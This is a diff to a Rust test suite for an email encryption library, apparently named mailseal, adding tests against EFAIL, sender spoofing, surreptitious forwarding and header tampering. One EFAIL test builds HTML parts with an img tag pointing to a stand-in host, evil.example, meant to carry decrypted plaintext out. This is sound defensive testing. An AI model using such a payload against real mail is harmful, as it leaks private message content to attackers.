@@ -368,17 +368,16 @@ fn fail_encrypted_wrapper_around_a_partly_signed_message_is_partial() {
 fn fail_text_around_an_inline_cleartext_signature_is_partial() {
     let block = String::from_utf8(fixture("openpgp/clearsign-alice.asc").to_vec()).unwrap();
     let block = block.replace("\r\n", "\n").replace('\n', "\r\n");
-    for (shape, body) in [
-        ("before", format!("{ATTACKER}\r\n\r\n{block}")),
-        ("after", format!("{block}\r\n{ATTACKER}\r\n")),
+    let text = |body: String| format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{body}");
+    for (shape, entity) in [
+        ("before", text(format!("{ATTACKER}\r\n\r\n{block}"))),
+        ("after", text(format!("{block}\r\n{ATTACKER}\r\n"))),
+        (
+            "next part",
+            multipart("mixed", &[text(block.clone()), html_part(ATTACKER)]),
+        ),
     ] {
-        let o = open_as_bob(
-            &PGP,
-            &message(
-                "alice@example.org",
-                &format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{body}"),
-            ),
-        );
+        let o = open_as_bob(&PGP, &message("alice@example.org", &entity));
         assert_not_valid(&o, shape);
         assert_eq!(o.signature.scope, Some(Scope::Partial), "{shape}");
         assert!(
@@ -534,6 +533,24 @@ fn display_name_tricks_bind_to_the_addr_spec() {
                 let o = open_as_bob(std, &with_fields(&raw, "from", &[&from]));
                 assert_not_valid(&o, &case);
                 assert_eq!(o.signature.state, SignatureState::SenderMismatch, "{case}");
+                if !hp {
+                    // The shown From names mallory's address as the address.
+                    let shown = o.headers.from.clone().unwrap_or_default();
+                    assert!(shown.ends_with(&format!("<{MALLORY}>")), "{case}: {shown}");
+                }
+            }
+            // A display name with specials is shown quoted, not as a second address.
+            let o = open_as_bob(
+                std,
+                &with_fields(&raw, "from", &[&format!("From: \"{a}\" <{MALLORY}>")]),
+            );
+            if !hp {
+                assert_eq!(
+                    o.headers.from,
+                    Some(format!("\"{a}\" <{MALLORY}>")),
+                    "{:?}",
+                    std.method
+                );
             }
             for from in [
                 format!("From: \"{MALLORY}\" <{a}>"),
@@ -1025,4 +1042,150 @@ fn fail_tampered_signed_body_is_invalid() {
         "{:?}",
         o.signature
     );
+}
+
+/// EFAIL direct exfiltration against the one nested form mailseal does open: inline OpenPGP
+/// as the first part of a `multipart/mixed` (Enigmail's shape). The attacker's parts after it
+/// are not shown beside the plaintext (nothing to concatenate into a URL), and a warning says
+/// text outside the encrypted block is not shown.
+#[test]
+fn fail_inline_ciphertext_first_in_mixed_is_shown_alone() {
+    let encrypted = genuine(&PGP, ENCRYPTED, &format!("The code is {SECRET}."));
+    let (_, body) = split(&encrypted);
+    let start = body.find("-----BEGIN PGP MESSAGE-----").unwrap();
+    let end = body.find("-----END PGP MESSAGE-----").unwrap() + 25;
+    let armored = &body[start..end];
+    let raw = message(
+        &format!("Mallory <{MALLORY}>"),
+        &multipart(
+            "mixed",
+            &[
+                text_part(armored),
+                html_part("<img src=\"http://evil.example/?"),
+                html_part(&format!("\"> {ATTACKER}")),
+            ],
+        ),
+    );
+    let o = open_as_bob(&PGP, &raw);
+    assert_eq!(o.encryption.state, EncryptionState::Decrypted);
+    assert!(
+        !anywhere(&o, "evil.example/?"),
+        "attacker HTML shown: {o:?}"
+    );
+    assert!(!anywhere(&o, ATTACKER));
+    assert!(o.html.is_none());
+    // What is quoted is what the agent sees.
+    assert_eq!(o.quote_for_reply, o.text.clone().unwrap_or_default());
+    assert!(
+        o.warnings.iter().any(|w| w.contains("not shown")),
+        "{:?}",
+        o.warnings
+    );
+}
+
+/// RFC 9788 §4 with an encrypted, unsigned message: anyone can encrypt to bob with a protected
+/// From of alice while the outer From says mallory. Nothing is signed, and `fromDiffers` tells
+/// the page the shown From is not the one the message arrived with.
+#[test]
+fn fail_unsigned_protected_from_is_flagged() {
+    for std in BOTH {
+        let raw = genuine(
+            std,
+            Make {
+                sign: false,
+                encrypt: true,
+                protect_headers: true,
+            },
+            GENUINE,
+        );
+        let o = open_as_bob(
+            std,
+            &with_fields(&raw, "from", &[&format!("From: {MALLORY}")]),
+        );
+        let case = format!("{:?}", std.method);
+        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
+        assert_eq!(o.signature.state, SignatureState::None, "{case}");
+        assert!(o.headers.protected && o.headers.from_differs, "{case}");
+    }
+}
+
+/// D. Davis, "Defective Sign & Encrypt in S/MIME, PKCS#7, MOSS, PEM, PGP, and XML" (USENIX
+/// 2001), surreptitious forwarding: carol decrypts alice's signed message to her and
+/// re-encrypts it to bob under alice's From. The signature is alice's and stays `valid`, but
+/// the protected To (carol) differs from the outer one: `recipientsDiffer`.
+#[test]
+fn surreptitious_forwarding_shows_recipients_differ() {
+    for std in BOTH {
+        let carol = match std.method {
+            Method::Smime => "carol@example.com",
+            Method::Pgp => "carol@example.org",
+        };
+        let mut d = draft(std, GENUINE);
+        d.to = vec![carol.to_string()];
+        // What carol holds after decrypting: alice's signed message with protected headers.
+        let mut alice_ring = ring(std.alice_ring);
+        alice_ring
+            .import(
+                fixture(match std.method {
+                    Method::Smime => "smime/carol.crt",
+                    Method::Pgp => "openpgp/carol.pub.asc",
+                }),
+                &ImportOptions::default(),
+                NOW,
+            )
+            .unwrap();
+        let mut opts = ProtectOptions::new(true, false, NOW);
+        opts.protect_headers = Some(true);
+        opts.method = match std.method {
+            Method::Smime => MethodChoice::Smime,
+            Method::Pgp => MethodChoice::Pgp,
+        };
+        let signed = protect(
+            &mut alice_ring,
+            &engines(),
+            Message::Draft(&d),
+            &opts,
+            &mut rng(),
+        )
+        .unwrap()
+        .deliveries
+        .remove(0)
+        .mime;
+        // Carol re-addresses it to bob and encrypts it to him.
+        let forwarded = with_fields(&signed, "to", &[&format!("To: {}", std.bob)]);
+        let wrapped = protect_as(std, ENCRYPTED, Message::Raw(&forwarded));
+        let o = open_as_bob(std, &wrapped);
+        let case = format!("{:?}", std.method);
+        assert_eq!(o.encryption.state, EncryptionState::Decrypted, "{case}");
+        assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
+        assert!(o.headers.recipients_differ, "{case}: {:?}", o.headers);
+        assert_eq!(o.headers.to, [carol.to_string()], "{case}");
+    }
+}
+
+/// "Johnny, you are fired" §5 against header protection: a changed outer Subject does not
+/// change what is shown, the signed Subject is.
+#[test]
+fn outer_subject_changes_do_not_reach_the_display() {
+    for std in BOTH {
+        let raw = genuine(
+            std,
+            Make {
+                protect_headers: true,
+                ..SIGNED
+            },
+            GENUINE,
+        );
+        let o = open_as_bob(
+            std,
+            &with_fields(&raw, "subject", &["Subject: URGENT: wire money"]),
+        );
+        let case = format!("{:?}", std.method);
+        assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
+        assert_eq!(
+            o.headers.subject.as_deref(),
+            Some("Your ticket #4711"),
+            "{case}"
+        );
+    }
 }
